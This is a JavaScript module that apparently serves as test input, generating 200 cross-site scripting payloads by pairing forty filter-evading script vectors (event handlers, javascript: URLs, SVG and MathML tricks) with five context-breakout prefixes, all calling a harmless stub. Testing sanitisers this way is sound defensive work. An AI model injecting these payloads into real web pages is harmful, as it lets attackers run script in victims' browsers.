// Two hundred texts that would run a script where a page took them for markup: forty ways to run
// something, each behind five ways out of the place it may be printed in. What they run is
// `ran()`, which the walk defines.

const ways = [
  '<script>ran()</script>',
  '<ScRiPt>ran()</sCrIpT>',
  '<script/x>ran()</script/x>',
  '<script src="data:text/javascript,ran()"></script>',
  '<scr<script>ipt>ran()</scr</script>ipt>',
  '<img src=x onerror=ran()>',
  '<img src=x:x onerror="ran()">',
  '<img/src=x/onerror=ran()>',
  '<img src onerror\n=\nran()>',
  '<image src=x onerror=ran()>',
  '<svg onload=ran()>',
  '<svg/onload=ran()//',
  '<svg><script>ran()</script></svg>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:ran()"><text x=9 y=9>x</text></a></svg>',
  '<math><mtext></mtext><mglyph><style></math><img src=x onerror=ran()>',
  '<math href="javascript:ran()">x</math>',
  '<body onload=ran()>',
  '<body onpageshow=ran()>',
  '<details open ontoggle=ran()>x</details>',
  '<input autofocus onfocus=ran()>',
  '<select autofocus onfocus=ran()></select>',
  '<textarea autofocus onfocus=ran()></textarea>',
  '<video src=x onerror=ran()></video>',
  '<audio src=x onerror=ran()>',
  '<video><source onerror=ran()></video>',
  '<iframe src="javascript:ran()"></iframe>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<object data="javascript:ran()"></object>',
  '<embed src="javascript:ran()">',
  '<a href="javascript:ran()" autofocus>x</a>',
  '<a href="java&#x09;script:ran()">x</a>',
  '<form action="javascript:ran()"><button autofocus>x</button></form>',
  '<meta http-equiv=refresh content="0;url=javascript:ran()">',
  '<base href="javascript:ran()//">',
  '<link rel=stylesheet href="data:text/css,*{x:expression(ran())}">',
  '<style>@import "javascript:ran()";</style>',
  '<marquee onstart=ran()>x</marquee>',
  '<div style="animation:x 1s" onanimationstart=ran()>x</div><style>@keyframes x{}</style>',
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
];

const outs = [
  '',
  '">',
  "' onfocus=ran() autofocus x='",
  '</textarea></title></script></style>-->',
  '{{7*7}}${ran()}#{ran()}]]>',
];

export const payloads = outs.flatMap((out) => ways.map((way) => out + way));
